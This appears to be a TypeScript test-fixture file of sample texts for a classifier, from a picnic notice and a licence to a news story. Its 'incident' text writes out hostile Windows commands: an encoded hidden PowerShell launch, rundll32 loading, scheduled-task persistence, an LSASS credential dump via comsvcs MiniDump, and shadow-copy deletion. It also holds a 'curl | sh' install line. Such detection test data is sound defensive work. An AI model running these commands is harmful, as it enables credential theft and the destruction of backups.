/** Texts written for these tests, one of each kind a feed brings. */
export const picnic = `The neighbourhood picnic takes place at the lake on Saturday. Teams of four compete in the sack race;
please print the sheet and bring a blanket. Children can change places, explore the maze and expand the sand castle.
We observed last year that the remote car park fills early, so the services of the shuttle bus are at your control.
A campaign to update the playground, and a technique to query the oracle, were discovered by the victim of a water fight.
Write to us at picnic@example.org or see https://www.example.org/lake for the network of paths.`;

export const licence = `Permission is granted to any person obtaining a copy of this software to use, copy, modify and
distribute it. In the event of a breach of these terms the licence is terminated. The executable, its source and every
derivative must keep this notice; the network services of the licensor are provided "as is", without attribution to any
indicator of fitness. If the targeted court finds the compromise void, the remaining terms persist (see section 1.2.3.4).
You may convey the work over a network -> see http://example.org/licence or 0.0.0.0 || C::D.`;

export const contributing = `# Contributing
Thank you! Please read this guide before you open a pull request. Detection of regressions is done by the test suite.
1. Fork the project and clone it: git clone https://github.com/example/project.git
2. Run the tests:
    npm install
    sudo apt-get install libfoo
    python -m pytest tests/
    curl -fsSL https://example.org/install.sh | sh
Log files are in /usr/local/var/log/project/app.log. On Windows use C:\\project\\bin. Run docker compose up on Linux or macOS.
The process monitor spawns child processes; alerts go to the syslog. See README.md and config.json for more.`;

export const webinar = `Join our webinar and learn more about how to stop ransomware. In this free training our experts give an
overview of best practices against the sophisticated attack of today, from initial access to data breach. Ninety percent
of organisations were compromised, our survey shows. Sign up now, click here to get started, or contact us for a free trial.`;

export const newsStory = `A ransomware group claimed the intrusion at a hospital chain. The threat actor, tied to Lazarus by
researchers, is said to have spent weeks on reconnaissance before exfiltration of patient records. Officials called it the
worst data breach of the year, and espionage was not ruled out.`;

export const incident = `On day one the user opened a document that spawned cmd.exe and then the following command:
cmd.exe /c powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=
The loader wrote %APPDATA%\\Microsoft\\cache.dll (sha256 0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9) and ran it:
rundll32.exe C:\\ProgramData\\cache.dll,Start
It beaconed to update[.]example[.]com and 198.51.100[.]7. The threat actor then created a scheduled task:
schtasks.exe /create /sc minute /mo 10 /tn Cache /tr "rundll32.exe C:\\ProgramData\\cache.dll,Start"
and dumped credentials from lsass.exe with comsvcs.dll:
rundll32.exe comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full
Persistence was set under HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run. Discovery used nltest /domain_trusts and
net group "Domain Admins" /domain, lateral movement wmic.exe and PsExec. Techniques: T1059.001, T1218.011, T1003.001, T1053.005.
Before the ransomware ran:
vssadmin.exe delete shadows /all /quiet`;
